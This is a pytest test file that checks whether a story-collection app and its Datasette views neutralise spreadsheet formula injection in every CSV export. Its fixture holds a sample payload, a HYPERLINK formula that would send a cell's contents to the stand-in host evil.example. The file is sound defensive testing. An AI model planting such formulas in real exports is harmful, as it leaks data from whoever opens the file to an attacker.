"""Every CSV Storybank emits opens in a spreadsheet as data: a cell that would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import add_tag, datasette_get, sign_off, story_form, with_signed_form
from pipelines.publish import run_publish
from stories.datasette_plugin import make_datasette
from stories.records import list_stories
from stories.spreadsheet import FORMULA_STARTS, csv_text, neutralise_csv, safe_cell
from stories.sqlite import sqlite3

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIDENCE = "-I go to the lunch club now+1"


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


def test_formula_cells_get_a_leading_quote_and_nothing_else_changes():
    assert [safe_cell(v) for v in ("=1+1", "+A1", "-2+3", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1",
        "'+A1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    # Plain numbers (a negative count, a signed value) are data, not formulas; other text is untouched.
    assert [safe_cell(v) for v in ("-5", "+1.5", "-2e3", "a=b", "", None, 7)] == ["-5", "+1.5", "-2e3", "a=b", "", None, 7]
    text = 'id,title\r\n1,"=1,2"\r\n2,"two\r\nlines"\r\n'
    assert neutralise_csv(text) == 'id,title\r\n1,"\'=1,2"\r\n2,"two\r\nlines"\r\n'
    assert neutralise_csv(csv_text([["a", "b"], ["1", ""]])) == csv_text([["a", "b"], ["1", ""]])
    # Found from outside: where ";" separates cells, an unquoted "x;=1+1" is two cells, a formula the second.
    assert neutralise_csv("id,title\r\n1,x;=1+1;=2\r\n") == 'id,title\r\n1,"x;=1+1;=2"\r\n'


@pytest.fixture
def evil_story(client, auth, db, orgs, users):
    """A story typed into the app's form whose title and evidence a spreadsheet would run as formulas."""
    auth.login("worker")
    response = client.post("/stories/new", data=with_signed_form(story_form(title=EVIL, identity_level="named")))
    assert response.status_code == 302
    story_id = list_stories(db, orgs["a"])[0]["id"]
    add_tag(db, story_id, evidence=EVIDENCE)  # not the body's words: added before sign-off, as the reviewer reads it
    sign_off(db, story_id, users["reviewer"])
    return story_id


def test_the_apps_csv_export_neutralises_a_formula_title(client, evil_story):
    response = client.get(f"/stories/{evil_story}/export.csv")
    assert response.status_code == 200
    exported = cells(response.get_data(as_text=True))
    assert "'" + EVIL in exported
    assert not [cell for cell in exported if runnable(cell)]


def datasette_paths(ds, database: str, cookies: dict[str, str]) -> list[str]:
    """Every table and canned query of a published file, as its visitors can list them."""
    listing = datasette_get(ds, f"/{database}.json", cookies).json()
    tables = [t["name"] for t in listing["tables"] if not t["name"].startswith("stories_fts")]
    queries = [q["name"] for q in listing["queries"]]
    arguments = "?domain=relationships&intervention=&contract="  # every canned query's parameters
    return [f"/{database}/{name}.csv" for name in tables] + [f"/{database}/{name}.csv{arguments}" for name in queries]


@pytest.mark.parametrize("persona", ["anonymous", "commissioner", "admin"])
def test_every_datasette_csv_neutralises_formulas_but_json_and_the_file_keep_the_words(instance, evil_story, app, persona):
    run_publish(instance)
    cookies = {}
    if persona != "anonymous":
        client = app.test_client()
        client.post("/auth/login", data={"username": persona, "password": "correct horse battery"})
        cookies = {"storybank_session": client.get_cookie("storybank_session").value}
    ds = make_datasette(instance)
    databases = ["public"] + ([] if persona == "anonymous" else ["commissioners"])
    seen = []
    for database in databases:
        for path in datasette_paths(ds, database, cookies):
            response = datasette_get(ds, path, cookies)
            assert response.status_code == 200, path
            found = cells(response.text)
            assert not [cell for cell in found if runnable(cell)], path
            seen += found
        row = datasette_get(ds, f"/{database}/stories/{evil_story}.csv", cookies)
        assert "'" + EVIL in cells(row.text)
        # The JSON view and the published file itself keep the storyteller's words exactly.
        data = datasette_get(ds, f"/{database}/stories/{evil_story}.json?_shape=objects", cookies).json()
        assert data["rows"][0]["title"] == EVIL
        with sqlite3.connect(instance.published_path(database)) as conn:
            assert conn.execute("SELECT title FROM stories WHERE id = ?", [evil_story]).fetchone()[0] == EVIL
    assert "'" + EVIL in seen and "'" + EVIDENCE in seen
    # Datasette's ?_trace= would show the raw CSV inside a web page: the CSV comes back as a file instead.
    traced = datasette_get(ds, "/public/stories.csv?_trace=1", cookies)
    assert "'" + EVIL in cells(traced.text) and "<textarea" not in traced.text
    if persona == "admin":
        query = datasette_get(ds, "/public.csv?sql=select+title+from+stories", cookies)
        assert cells(query.text) == ["title", "'" + EVIL]
